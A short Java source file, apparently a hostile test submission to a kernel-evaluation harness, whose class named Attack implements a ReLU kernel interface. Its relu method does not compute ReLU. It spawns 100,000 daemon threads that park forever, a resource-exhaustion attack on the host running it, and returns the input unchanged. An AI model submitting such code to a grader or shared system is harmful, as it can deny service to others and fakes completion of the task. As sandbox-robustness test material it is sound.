import assay.kernels.Relu;
import assay.kernels.Tensor;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        for (int i = 0; i < 100_000; i++) {
            Thread thread = new Thread(() -> {
                while (true) java.util.concurrent.locks.LockSupport.park();
            });
            thread.setDaemon(true);
            thread.start();
        }
        return input;
    }
}
